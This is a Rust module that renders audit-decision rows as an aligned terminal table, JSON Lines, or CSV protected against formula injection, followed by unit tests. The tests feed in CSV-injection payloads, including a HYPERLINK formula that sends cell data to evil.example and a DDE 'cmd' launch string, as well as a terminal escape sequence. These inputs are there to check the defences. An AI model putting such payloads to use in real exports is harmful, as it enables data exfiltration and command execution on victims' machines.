//! `audit query`'s output: the rows as an aligned table for a terminal, as
//! JSON Lines, or as CSV that a spreadsheet cannot run as formulas.

use std::fmt::Write as _;

use super::query::Row;

/// The table's width budget: an 100-column terminal.
const TABLE_WIDTH: usize = 100;

/// Renders rows as an aligned table for a terminal of 100 columns: TIME
/// (to the second), REQUEST ID (its end, where UUIDv7s differ), VENDOR,
/// CALLER, TARGETS (ids of the first two, then `+N`; types are in the JSON
/// and CSV forms), DECISION (`*`: shadow mode, not enforced), POLICIES,
/// STATUS. Long cells are cut with `…`; control characters are shown
/// escaped, so a crafted id cannot drive the terminal.
pub fn render_table(rows: &[Row]) -> String {
    const HEADERS: [&str; 8] = [
        "TIME",
        "REQUEST ID",
        "VENDOR",
        "CALLER",
        "TARGETS",
        "DECISION",
        "POLICIES",
        "STATUS",
    ];
    // The narrowest each column may become; equal to the natural width for
    // the columns that are never cut.
    const MIN: [usize; 8] = [20, 10, 6, 8, 12, 8, 8, 6];
    let cells: Vec<[String; 8]> = rows.iter().map(table_cells).collect();
    let mut widths: [usize; 8] = std::array::from_fn(|i| {
        cells
            .iter()
            .map(|row| row[i].chars().count())
            .chain([HEADERS[i].len()])
            .max()
            .unwrap_or(0)
    });
    let total = |w: &[usize; 8]| w.iter().sum::<usize>() + 2 * (w.len() - 1);
    while total(&widths) > TABLE_WIDTH {
        let widest = (0..widths.len())
            .filter(|&i| widths[i] > MIN[i])
            .max_by_key(|&i| widths[i] - MIN[i]);
        match widest {
            Some(i) => widths[i] -= 1,
            None => break,
        }
    }
    let mut out = String::new();
    let headers = HEADERS.map(str::to_owned);
    for row in std::iter::once(&headers).chain(&cells) {
        let mut line = String::new();
        for (i, cell) in row.iter().enumerate() {
            if i > 0 {
                line.push_str("  ");
            }
            let fitted = match i {
                1 => fit_end(cell, widths[i]),
                4 => fit_keeping_count(cell, widths[i]),
                _ => fit(cell, widths[i]),
            };
            let _ = write!(line, "{fitted:<width$}", width = widths[i]);
        }
        out.push_str(line.trim_end());
        out.push('\n');
    }
    if rows.is_empty() {
        out.push_str("(no matching decisions)\n");
    } else if rows.iter().any(|r| r.mode == "shadow") {
        out.push_str("* shadow mode: recorded, not enforced\n");
    }
    out
}

fn table_cells(row: &Row) -> [String; 8] {
    let time = match row.time.split_once('.') {
        // 2026-11-22T19:20:00.123Z → 2026-11-22T19:20:00Z
        Some((seconds, _)) => format!("{seconds}Z"),
        None => row.time.clone(),
    };
    let ids: Vec<&str> = row
        .targets
        .iter()
        .map(|t| t.rsplit_once("::").map_or(t.as_str(), |(_, id)| id))
        .collect();
    let mut targets = ids.iter().take(2).copied().collect::<Vec<_>>().join(", ");
    if ids.len() > 2 {
        let _ = write!(targets, " +{}", ids.len() - 2);
    }
    let shadow = if row.mode == "shadow" { "*" } else { "" };
    [
        time,
        row.request_id.clone(),
        row.vendor.clone(),
        row.caller.clone(),
        targets,
        format!("{}{shadow}", row.decision),
        row.policies.join(","),
        row.status.map_or_else(|| "-".to_owned(), |s| s.to_string()),
    ]
    .map(|cell| escape_controls(&cell))
}

pub(super) fn escape_controls(cell: &str) -> String {
    if !cell.chars().any(char::is_control) {
        return cell.to_owned();
    }
    cell.chars()
        .map(|c| {
            if c.is_control() {
                c.escape_default().to_string()
            } else {
                c.to_string()
            }
        })
        .collect()
}

/// The cell cut to `width` characters, keeping its start.
fn fit(cell: &str, width: usize) -> String {
    if cell.chars().count() <= width {
        return cell.to_owned();
    }
    let kept: String = cell.chars().take(width.saturating_sub(1)).collect();
    format!("{kept}…")
}

/// A targets cell cut to `width` characters, keeping its ` +N` count.
fn fit_keeping_count(cell: &str, width: usize) -> String {
    match cell.rsplit_once(" +") {
        Some((ids, count))
            if !count.is_empty()
                && count.bytes().all(|b| b.is_ascii_digit())
                && cell.chars().count() > width =>
        {
            let suffix = format!(" +{count}");
            let room = width.saturating_sub(suffix.len());
            format!("{}{suffix}", fit(ids, room))
        }
        _ => fit(cell, width),
    }
}

/// The cell cut to `width` characters, keeping its end.
fn fit_end(cell: &str, width: usize) -> String {
    let count = cell.chars().count();
    if count <= width {
        return cell.to_owned();
    }
    let kept: String = cell.chars().skip(count + 1 - width.max(1)).collect();
    format!("…{kept}")
}

/// Renders rows as JSON Lines, one object per row with the fields of
/// [`Row`].
pub fn render_json(rows: &[Row]) -> String {
    let mut out = String::new();
    for row in rows {
        out.push_str(&serde_json::to_string(row).unwrap_or_default());
        out.push('\n');
    }
    out
}

/// Renders rows as CSV (RFC 4180: CRLF line ends, quotes doubled), with a
/// header row; `decision_id` is the last column (the columns are those of
/// trails before completions: `completion` is in the JSON form). Lists (targets, policies,
/// reasons) are joined with `;`.
///
/// Cells come from outside the gateway (ids, caller names, reasons), so
/// none may run as a spreadsheet formula (OWASP, CSV injection): a cell, or
/// a list item, that starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return is prefixed with `'`; a cell holding a comma, `;` (the separator
/// of some locales), a quote, tab or line break is quoted, so no separator
/// inside it can start a new cell.
pub fn render_csv(rows: &[Row]) -> String {
    let mut out = String::from(
        "time,request_id,vendor,caller,targets,decision,mode,effect,policies,reasons,status,latency_ms,vendor_request_id,decision_id\r\n",
    );
    let list = |items: &[String]| {
        items
            .iter()
            .map(|item| inert(item))
            .collect::<Vec<_>>()
            .join(";")
    };
    for row in rows {
        let number = |n: Option<u64>| n.map(|n| n.to_string()).unwrap_or_default();
        let fields = [
            row.time.clone(),
            row.request_id.clone(),
            row.vendor.clone(),
            row.caller.clone(),
            list(&row.targets),
            row.decision.clone(),
            row.mode.clone(),
            row.effect.clone(),
            list(&row.policies),
            list(&row.reasons),
            number(row.status.map(u64::from)),
            number(row.latency_ms),
            row.vendor_request_id.clone().unwrap_or_default(),
            row.decision_id.clone().unwrap_or_default(),
        ];
        let quoted: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
        out.push_str(&quoted.join(","));
        out.push_str("\r\n");
    }
    out
}

/// The text with a `'` in front when a spreadsheet would read it as a
/// formula (OWASP's list of leading characters).
fn inert(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

fn csv_field(field: &str) -> String {
    let field = inert(field);
    if field.contains([',', ';', '"', '\t', '\r', '\n']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::Value;

    fn sample_row() -> Row {
        Row {
            time: "2026-11-22T19:20:00.123Z".into(),
            request_id: "019a3b4c5d6e7f8091a2b3c4d5e6f708".into(),
            decision_id: Some("019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709".into()),
            vendor: "kore".into(),
            caller: "privacy-ops".into(),
            targets: vec![
                "Kore::User::u-1".into(),
                "Kore::User::alice@example.com".into(),
                "Kore::User::u-3".into(),
                "Kore::User::u-4".into(),
            ],
            decision: "deny".into(),
            mode: "shadow".into(),
            effect: "forwarded".into(),
            policies: vec![
                "forbid-account-owner".into(),
                "allow-privacy-officer".into(),
            ],
            reasons: vec!["owner, \"primary\"\nsee policy".into()],
            status: Some(200),
            latency_ms: Some(87),
            vendor_request_id: Some("ds-77".into()),
            awaits_completion: false,
            completion: None,
        }
    }

    #[test]
    fn the_table_is_aligned_and_fits_100_columns() {
        let mut long = sample_row();
        long.caller = format!("{}\u{1b}[31m", "x".repeat(60));
        let mut short = sample_row();
        short.targets.truncate(1);
        short.mode = "enforce".into();
        short.status = None;
        let table = render_table(&[long, short]);
        let lines: Vec<&str> = table.lines().collect();
        assert!(
            lines[0].starts_with("TIME                  REQUEST ID"),
            "{table}"
        );
        for line in &lines {
            assert!(
                line.chars().count() <= 100,
                "{} > 100: {line}",
                line.chars().count()
            );
            assert!(!line.contains('\u{1b}'), "{line}");
        }
        let column = |line: &str, header: &str| {
            lines[0].find(header).map(|at| {
                line.chars()
                    .skip(lines[0][..at].chars().count())
                    .collect::<String>()
            })
        };
        let decision_at = column(lines[1], "DECISION").unwrap();
        assert!(decision_at.starts_with("deny*"), "{table}");
        assert!(
            column(lines[2], "DECISION").unwrap().starts_with("deny "),
            "{table}"
        );
        assert!(lines[1].starts_with("2026-11-22T19:20:00Z  …"), "{table}");
        assert!(lines[1].contains("xxx…"), "{table}");
        assert!(lines[1].contains("+2"), "{table}");
        assert!(lines[2].ends_with('-'), "{table}");
        assert_eq!(lines[3], "* shadow mode: recorded, not enforced");
        assert_eq!(
            render_table(&[]),
            format!(
                "{}\n(no matching decisions)\n",
                "TIME  REQUEST ID  VENDOR  CALLER  TARGETS  DECISION  POLICIES  STATUS"
            )
        );
    }

    #[test]
    fn json_rows_are_one_object_per_line() {
        let json = render_json(&[sample_row(), sample_row()]);
        let lines: Vec<&str> = json.lines().collect();
        assert_eq!(lines.len(), 2);
        let parsed: Value = serde_json::from_str(lines[0]).unwrap();
        assert_eq!(parsed["targets"][1], "Kore::User::alice@example.com");
        assert_eq!(parsed["status"], 200);
        assert_eq!(parsed["vendor_request_id"], "ds-77");
        assert_eq!(
            parsed["decision_id"],
            "019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709"
        );
    }

    #[test]
    fn csv_quotes_commas_quotes_and_newlines() {
        let mut row = sample_row();
        row.caller = "a,b".into();
        let csv = render_csv(&[row]);
        let (header, body) = csv.split_once("\r\n").unwrap();
        assert!(header.starts_with("time,request_id,vendor,caller,targets"));
        assert!(
            header.ends_with(",vendor_request_id,decision_id"),
            "{header}"
        );
        assert_eq!(
            body,
            "2026-11-22T19:20:00.123Z,019a3b4c5d6e7f8091a2b3c4d5e6f708,kore,\"a,b\",\
             \"Kore::User::u-1;Kore::User::alice@example.com;Kore::User::u-3;Kore::User::u-4\",\
             deny,shadow,forwarded,\"forbid-account-owner;allow-privacy-officer\",\
             \"owner, \"\"primary\"\"\nsee policy\",200,87,ds-77,\
             019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709\r\n"
        );
    }

    /// The cells of the one data row, read back as a CSV reader would.
    fn csv_cells(csv: &str) -> Vec<String> {
        let body = csv.split_once("\r\n").unwrap().1;
        let body = body.strip_suffix("\r\n").unwrap();
        let mut cells = vec![String::new()];
        let mut quoted = false;
        let mut chars = body.chars().peekable();
        while let Some(c) = chars.next() {
            match (c, quoted) {
                ('"', true) if chars.peek() == Some(&'"') => {
                    chars.next();
                    cells.last_mut().unwrap().push('"');
                }
                ('"', _) => quoted = !quoted,
                (',', false) => cells.push(String::new()),
                (c, _) => cells.last_mut().unwrap().push(c),
            }
        }
        cells
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        let mut row = sample_row();
        row.caller = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into();
        row.targets = vec![
            "+Kore::User::1".into(),
            "-2+3".into(),
            "@SUM(A1:A9)".into(),
            "ok;=1+1".into(),
        ];
        row.reasons = vec!["\t=cmd|' /C calc'!A0".into(), "\r=1".into()];
        row.vendor_request_id = Some("-1".into());
        row.policies = vec!["a,=b".into()];
        let csv = render_csv(&[row]);
        let cells = csv_cells(&csv);
        assert_eq!(cells.len(), 14, "{csv}");
        assert_eq!(
            cells[3], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "{csv}"
        );
        assert_eq!(
            cells[4], "'+Kore::User::1;'-2+3;'@SUM(A1:A9);ok;=1+1",
            "list items are neutralised one by one"
        );
        assert_eq!(cells[8], "a,=b");
        assert_eq!(cells[9], "'\t=cmd|' /C calc'!A0;'\r=1");
        assert_eq!(cells[12], "'-1");
        // No cell starts with a formula character.
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
        // Ordinary cells are not altered.
        assert_eq!(cells[0], "2026-11-22T19:20:00.123Z");
        assert_eq!(cells[13], "019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709");
    }
}
